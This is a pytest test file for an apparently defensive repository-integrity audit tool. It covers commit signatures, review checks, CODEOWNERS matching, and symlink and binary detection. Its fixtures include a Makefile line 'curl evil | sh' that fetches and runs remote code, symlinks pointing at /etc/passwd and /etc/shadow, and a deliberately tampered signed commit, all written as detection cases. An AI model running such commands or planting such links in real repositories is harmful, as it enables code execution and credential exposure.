"""Every source/ rule: a case that fires and a near-miss that must not, on real repositories."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import git
import pytest

from gatekeeper.audit.source_integrity import SourceIntegrityAudit, codeowners_rules, owned
from gatekeeper.cli import main
from gatekeeper.models.finding import Severity
from gatekeeper.models.source import SourceEvidence
from tests.source.helpers import audit, collect, commit, sh, write

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def _only(findings: list, rule: str) -> list:
    return [f for f in findings if f.rule == rule]


def test_every_source_rule_is_declared_with_its_default_severity() -> None:
    table = SourceIntegrityAudit.rules
    assert len(table) == 14
    assert table["source/unsigned-commit"] == Severity.INFO
    assert table["source/unverified-signature"] == Severity.INFO
    assert table["source/bad-signature"] == Severity.HIGH
    assert table["source/pipeline-change"] == Severity.MEDIUM
    assert table["source/history-rewrite"] == Severity.HIGH
    assert all(rule.help for rule in table.records)


def test_history_rewrite_fires_and_linear_history_does_not(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "a", "1")
    commit(repo)
    assert not _only(audit(collect(repo, base)), "source/history-rewrite")
    sh(repo, "checkout", "-q", "-b", "old")
    write(repo, "b", "2")
    old = commit(repo, "old")
    sh(repo, "checkout", "-q", "main")
    hits = _only(audit(collect(repo, old)), "source/history-rewrite")
    assert len(hits) == 1 and hits[0].severity == Severity.HIGH


def test_unsigned_commit_is_info_unless_policy_requires_signatures(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "a", "1")
    sha = commit(repo)
    ev = collect(repo, base)
    info = _only(audit(ev), "source/unsigned-commit")
    assert [f.severity for f in info] == [Severity.INFO] and sha[:12] in info[0].message
    strict = _only(audit(ev, require_signed_commits=True), "source/unsigned-commit")
    assert [f.severity for f in strict] == [Severity.HIGH]


def _signed_repo(repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path) -> tuple[str, Path]:
    base = repo.head.commit.hexsha
    sh(repo, "config", "gpg.format", "ssh")
    sh(repo, "config", "user.signingkey", str(ssh_keys["trusted"]))
    write(repo, "s.txt", "signed\n")
    commit(repo, "signed", extra=("-S",))
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"dev@example.invalid {Path(str(ssh_keys['trusted']) + '.pub').read_text()}")
    return base, allowed


def test_signed_commit_with_trusted_key_passes(
    repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path
) -> None:
    base, allowed = _signed_repo(repo, ssh_keys, tmp_path)
    ev = collect(repo, base, allowed_signers=str(allowed))
    fpr = ev.commits[0].signature.fingerprint
    assert fpr
    found = audit(ev, require_signed_commits=True, trusted_commit_keys=[fpr])
    assert not _only(found, "source/unsigned-commit")
    assert not _only(found, "source/bad-signature")
    # Near-miss: a trusted-keys list that names another key makes the same signature untrusted:
    # it verifies, so its signer is someone the policy does not allow, not a forger.
    other = audit(ev, trusted_commit_keys=["SHA256:" + "A" * 43])
    assert not _only(other, "source/bad-signature")
    assert len(_only(other, "source/unknown-identity")) == 1
    assert "not among the policy's trusted_commit_keys" in (
        _only(other, "source/unknown-identity")[0].message
    )


def test_signature_no_key_here_vouches_for_is_unverified_not_bad(
    repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path
) -> None:
    base, _ = _signed_repo(repo, ssh_keys, tmp_path)
    found = audit(collect(repo, base))  # no allowed-signers file: the key is unknown here
    assert not _only(found, "source/bad-signature")
    unverified = _only(found, "source/unverified-signature")
    assert [f.severity for f in unverified] == [Severity.INFO]
    assert not _only(found, "source/unsigned-commit")


def test_bad_signature_on_a_tampered_commit(
    repo: git.Repo, ssh_keys: dict[str, Path], tmp_path: Path
) -> None:
    base, allowed = _signed_repo(repo, ssh_keys, tmp_path)
    raw = sh(repo, "cat-file", "commit", "HEAD")
    tampered = raw.replace("signed", "tampered", 1) + "\n"
    sha = subprocess.run(
        ["git", "hash-object", "-t", "commit", "-w", "--stdin"],
        cwd=repo.working_tree_dir,
        input=tampered,
        text=True,
        capture_output=True,
        check=True,
    ).stdout.strip()
    sh(repo, "update-ref", "refs/heads/main", sha)
    ev = collect(repo, base, allowed_signers=str(allowed))
    assert ev.commits[0].signature.status == "B"
    assert len(_only(audit(ev), "source/bad-signature")) == 1


def test_unknown_identity_only_when_the_policy_lists_identities(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "a", "1")
    commit(repo, author="Mallory <mallory@evil.invalid>")
    write(repo, "b", "2")
    commit(repo, author="Dev Two <two@example.invalid>")
    ev = collect(repo, base)
    assert not _only(audit(ev), "source/unknown-identity")
    hits = _only(audit(ev, allowed_identities=["*@example.invalid"]), "source/unknown-identity")
    assert {f.message.split(": ")[1].split(" ")[1] for f in hits} == {"mallory@evil.invalid"}
    assert len(hits) == 2  # author and committer
    assert not _only(
        audit(ev, allowed_identities=["*@example.invalid", "mallory@*"]), "source/unknown-identity"
    )


def test_pipeline_and_gate_changes(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, ".github/workflows/ci.yml", "on: push\n")
    write(repo, "Dockerfile", "FROM scratch\n")
    write(repo, "policies/release.yaml", "version: 1\n")
    write(repo, ".github/CODEOWNERS", "* @acme/devs\n")
    write(repo, "docs/workflows.md", "how our CI works\n")
    write(repo, "src/policies.py", "x = 1\n")
    commit(repo)
    found = audit(collect(repo, base))
    assert sorted(f.path for f in _only(found, "source/pipeline-change")) == [
        ".github/workflows/ci.yml",
        "Dockerfile",
    ]
    assert sorted(f.path for f in _only(found, "source/gate-change")) == [
        ".github/CODEOWNERS",
        "policies/release.yaml",
    ]
    assert all(f.severity == Severity.HIGH for f in _only(found, "source/gate-change"))


def test_a_pipeline_file_changed_and_reverted_within_the_range_still_counts(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "Makefile", "all:\n\tcurl evil | sh\n")
    commit(repo)
    sh(repo, "rm", "-q", "Makefile")
    commit(repo)
    assert _only(audit(collect(repo, base)), "source/pipeline-change")


def test_unreviewed_change(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "a", "1")
    plain = commit(repo, "no review")
    write(repo, "b", "2")
    trailer = commit(repo, "reviewed\n\nReviewed-by: Rita <rita@example.invalid>")
    ev = collect(repo, base)
    assert not _only(audit(ev), "source/unreviewed-change")  # not required by default
    found = _only(audit(ev, require_review=True), "source/unreviewed-change")
    assert {f.message.split()[1] for f in found} == {plain[:12], trailer[:12]}
    assert all("reviews could not be read" in f.message for f in found)
    # Near-miss: the forge's review of the range's head approves every commit of it.
    reviewed = collect(
        repo, base, reviews=[{"head_sha": trailer, "author": "dev", "approved_by": ["rita"]}]
    )
    assert not _only(audit(reviewed, require_review=True), "source/unreviewed-change")


def test_trailers_never_count_as_review(repo: git.Repo) -> None:
    # A trailer is written by the commit's author: offline there is then no review the gate
    # can verify, and with the forge's reviews read only they count.
    base = repo.head.commit.hexsha
    write(repo, "b", "2")
    forged = commit(repo, "reviewed\n\nReviewed-by: Rita <rita@example.invalid>")
    offline = _only(audit(collect(repo, base), require_review=True), "source/unreviewed-change")
    assert [f.message.split()[1] for f in offline] == [forged[:12]]
    assert "reviews could not be read" in offline[0].message
    consulted = collect(repo, base, reviews=[])
    assert consulted.reviews_consulted
    found = _only(audit(consulted, require_review=True), "source/unreviewed-change")
    assert [f.message.split()[1] for f in found] == [forged[:12]]
    assert "no approving pull-request review" in found[0].message


def test_merge_of_an_approved_pull_request_counts_as_review(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    sh(repo, "checkout", "-q", "-b", "feature")
    write(repo, "f.txt", "feature\n")
    feature = commit(repo, "feature work", author="Fay <fay@example.invalid>")
    sh(repo, "checkout", "-q", "main")
    sh(repo, "merge", "-q", "--no-ff", "feature", "-m", "Merge pull request #7 from acme/feature")
    unreviewed = _only(audit(collect(repo, base), require_review=True), "source/unreviewed-change")
    assert [f.message.split()[1] for f in unreviewed] == [feature[:12]]
    # pr-check feeds the API's reviews through options["reviews"].
    approved = collect(
        repo, base, reviews=[{"number": 7, "author": "fay", "approved_by": ["rita"]}]
    )
    assert not _only(audit(approved, require_review=True), "source/unreviewed-change")
    # Near-miss: the author approving their own pull request does not count.
    own = collect(repo, base, reviews=[{"number": 7, "author": "fay", "approved_by": ["fay"]}])
    assert len(_only(audit(own, require_review=True), "source/unreviewed-change")) == 1


def test_merge_commit_trailer_does_not_approve_the_merged_commits(repo: git.Repo) -> None:
    # The merge message of a forge can carry the pull request's description, which its author
    # wrote: an Approved-by line there is no more a review than one in the commit itself.
    base = repo.head.commit.hexsha
    sh(repo, "checkout", "-q", "-b", "feature")
    write(repo, "f.txt", "feature\n")
    feature = commit(repo, "feature work", author="Fay <fay@example.invalid>")
    sh(repo, "checkout", "-q", "main")
    sh(
        repo,
        "merge",
        "-q",
        "--no-ff",
        "feature",
        "-m",
        "Merge branch 'feature'\n\nSee merge request acme/app!12\n\n"
        "Approved-by: Rita <rita@example.invalid>",
    )
    found = _only(audit(collect(repo, base), require_review=True), "source/unreviewed-change")
    assert [f.message.split()[1] for f in found] == [feature[:12]]
    # Near-miss: the forge's approval of merge request !12 covers what its merge brought in.
    approved = collect(
        repo, base, reviews=[{"number": 12, "author": "fay", "approved_by": ["rita"]}]
    )
    assert not _only(audit(approved, require_review=True), "source/unreviewed-change")


def test_review_of_the_range_head_approves_the_range(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "a", "1")
    head = commit(repo)
    ev = collect(repo, base, reviews=[{"head_sha": head, "author": "dev", "approved_by": ["rita"]}])
    assert not _only(audit(ev, require_review=True), "source/unreviewed-change")
    stale = collect(
        repo, base, reviews=[{"head_sha": "f" * 40, "author": "dev", "approved_by": ["rita"]}]
    )
    assert _only(audit(stale, require_review=True), "source/unreviewed-change")


def test_codeowners_gap(repo: git.Repo) -> None:
    write(repo, ".github/workflows/ci.yml", "on: push\n")
    write(repo, "Jenkinsfile", "pipeline {}\n")
    write(repo, ".github/CODEOWNERS", "*.py @acme/devs\n/.github/ @acme/sec\n")
    commit(repo)
    found = _only(audit(collect(repo)), "source/codeowners-gap")
    assert [f.path for f in found] == ["Jenkinsfile"]
    assert found[0].severity == Severity.LOW


def test_no_codeowners_file_means_no_gap_findings(repo: git.Repo) -> None:
    write(repo, ".github/workflows/ci.yml", "on: push\n")
    commit(repo)
    assert not _only(audit(collect(repo)), "source/codeowners-gap")


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("*", "any/deep/file", True),
        ("*.yml", ".github/workflows/ci.yml", True),
        ("/.github/", ".github/workflows/ci.yml", True),
        (".github/", "sub/.github/x", True),  # a trailing slash alone does not anchor
        ("build/logs/", "x/build/logs/a", False),  # a slash inside the pattern anchors it
        ("apps/", "sub/apps/x", True),  # a bare directory name matches at any depth
        ("docs/*", "docs/a.md", True),
        ("docs/*", "docs/deep/a.md", False),  # GitHub: * does not cover nested files
        ("**/logs", "a/b/logs/x.txt", True),
        ("/build/logs/", "build/logs/x/y", True),
        ("Jenkinsfile", "ci/Jenkinsfile", True),
    ],
)
def test_codeowners_pattern_semantics(pattern: str, path: str, expected: bool) -> None:
    assert owned(path, codeowners_rules(f"{pattern} @owner\n")) is expected


def test_codeowners_later_rule_without_owner_unowns() -> None:
    rules_ = codeowners_rules("* @all\n/policies/\n# comment\n")
    assert owned("src/a.py", rules_) and not owned("policies/p.yaml", rules_)


def test_binary_added_by_content_not_extension(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "tools/helper", ELF)
    write(repo, "data/notes.bin", "just text with a misleading extension\n")
    commit(repo)
    found = _only(audit(collect(repo, base)), "source/binary-added")
    assert [f.path for f in found] == ["tools/helper"] and "ELF" in found[0].message


def test_executable_added(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "run.sh", "#!/bin/sh\n", mode=0o755)
    write(repo, "README.md", "changed\n")
    commit(repo)
    found = _only(audit(collect(repo, base)), "source/executable-added")
    assert [f.path for f in found] == ["run.sh"]
    base2 = repo.head.commit.hexsha
    write(repo, "run.sh", "#!/bin/sh\necho more\n", mode=0o755)  # stays executable
    commit(repo)
    assert not _only(audit(collect(repo, base2)), "source/executable-added")


def test_submodule_change(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    sh(repo, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},vendor/lib")
    commit(repo, "add submodule", add=False)
    found = _only(audit(collect(repo, base)), "source/submodule-change")
    assert len(found) == 1 and "is added" in found[0].message
    base2 = repo.head.commit.hexsha
    write(repo, "other.txt", "x")
    sh(repo, "add", "other.txt")
    commit(repo, "unrelated", add=False)
    assert not _only(audit(collect(repo, base2)), "source/submodule-change")
    sh(repo, "update-index", "--cacheinfo", f"160000,{'2' * 40},vendor/lib")
    commit(repo, "bump", add=False)
    moved = _only(audit(collect(repo, base2)), "source/submodule-change")
    assert len(moved) == 1 and "moves from 111111111111" in moved[0].message


def test_symlink_escape(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    root = Path(repo.working_tree_dir or ".")
    (root / "docs").mkdir()
    (root / "docs" / "passwd").symlink_to("../../../etc/passwd")
    (root / "abs").symlink_to("/etc/shadow")
    (root / "inside").symlink_to("docs/../README.md")
    commit(repo)
    found = _only(audit(collect(repo, base)), "source/symlink-escape")
    assert sorted(f.path for f in found) == ["abs", "docs/passwd"]
    # Also on the tree without a base, and on a plain directory.
    assert len(_only(audit(collect(repo)), "source/symlink-escape")) == 2


def test_symlink_escape_on_a_plain_directory(tmp_path: Path) -> None:
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "ok").symlink_to("sub/../x")
    (tmp_path / "d" / "out").symlink_to("../../x")
    found = _only(audit(collect(tmp_path / "d")), "source/symlink-escape")
    assert [f.path for f in found] == ["out"]


def test_large_file_just_over_and_just_under_the_limit(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "big.txt", "x" * 1025)
    write(repo, "fits.txt", "x" * 1024)
    commit(repo)
    found = _only(audit(collect(repo, base), max_file_size=1024), "source/large-file")
    assert [f.path for f in found] == ["big.txt"]


def test_fingerprints_are_stable_across_runs(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "Makefile", "all:\n")
    commit(repo)
    first = {f.fingerprint for f in audit(collect(repo, base))}
    write(repo, "other", "1")
    commit(repo)
    second = {f.fingerprint for f in audit(collect(repo, base))}
    assert first <= second


def test_evidence_json_is_deterministic(repo: git.Repo) -> None:
    base = repo.head.commit.hexsha
    write(repo, "b", "1")
    write(repo, "a", "2")
    commit(repo)
    one = collect(repo, base).model_dump_json()
    assert one == collect(repo, base).model_dump_json()
    SourceEvidence.model_validate_json(one)


def test_cli_check_and_collect(repo: git.Repo, capsys: pytest.CaptureFixture[str]) -> None:
    base = repo.head.commit.hexsha
    write(repo, "policies/p.yaml", "x: 1\n")
    commit(repo)
    root = str(repo.working_tree_dir)
    assert main(["check", root, "--base", base, "--only", "source", "--format", "json"]) == 1
    out = capsys.readouterr().out
    assert '"source/gate-change"' in out and '"verdict": "block"' in out
    assert main(["check", root, "--base", "HEAD", "--only", "source", "--format", "json"]) == 0
    capsys.readouterr()
    assert main(["collect", "source", root, "--base", base]) == 0
    assert '"base_is_ancestor": true' in capsys.readouterr().out
    assert main(["check", root, "--base", "no-such-ref", "--only", "source"]) == 2


def test_cli_check_on_a_plain_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "README").write_text("hi\n")
    (tmp_path / "escape").symlink_to("../../etc/passwd")
    assert main(["check", str(tmp_path), "--only", "source", "--format", "json"]) == 1
    out = capsys.readouterr().out
    assert '"source/symlink-escape"' in out and "not a git repository" in out


@pytest.fixture
def gnupg_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(home))
    subprocess.run(
        [
            "gpg",
            "--batch",
            "--quiet",
            "--passphrase",
            "",
            "--quick-gen-key",
            "Dev One <dev@example.invalid>",
            "ed25519",
            "sign",
            "never",
        ],
        check=True,
        capture_output=True,
    )
    listing = subprocess.run(
        ["gpg", "--list-keys", "--with-colons"], check=True, capture_output=True, text=True
    ).stdout
    fpr = next(line.split(":")[9] for line in listing.splitlines() if line.startswith("fpr"))
    yield fpr
    subprocess.run(["gpgconf", "--kill", "gpg-agent"], check=False, capture_output=True)


def test_gpg_signed_commit_verifies_and_matches_trusted_key_ids(
    repo: git.Repo, gnupg_home: str
) -> None:
    base = repo.head.commit.hexsha
    sh(repo, "config", "user.signingkey", gnupg_home)
    write(repo, "g.txt", "gpg\n")
    commit(repo, "gpg signed", extra=("-S",))
    ev = collect(repo, base)
    sig = ev.commits[0].signature
    # U: it verifies; the keyring the gate verifies with assigns no owner trust.
    assert sig.status in ("G", "U") and sig.fingerprint == gnupg_home
    for trusted in (gnupg_home, gnupg_home[-16:], gnupg_home.lower()):
        found = audit(ev, require_signed_commits=True, trusted_commit_keys=[trusted])
        assert not _only(found, "source/bad-signature")
        assert not _only(found, "source/unknown-identity")
        assert not _only(found, "source/unsigned-commit")
    other = audit(ev, trusted_commit_keys=["0123456789ABCDEF"])
    assert _only(other, "source/unknown-identity") and not _only(other, "source/bad-signature")


def test_malformed_review_records_fail_closed(repo: git.Repo) -> None:
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="reviews"):
        collect(repo, reviews=[{"number": "not a number", "approved_by": "rita"}])


def test_collect_text_format(repo: git.Repo, capsys: pytest.CaptureFixture[str]) -> None:
    base = repo.head.commit.hexsha
    write(repo, "a", "1")
    sha = commit(repo, "a change")
    assert (
        main(["collect", "source", str(repo.working_tree_dir), "--base", base, "--format", "text"])
        == 0
    )
    out = capsys.readouterr().out
    assert f"{sha[:12]} sig=N dev@example.invalid a change" in out
    assert "ancestor of head: True" in out
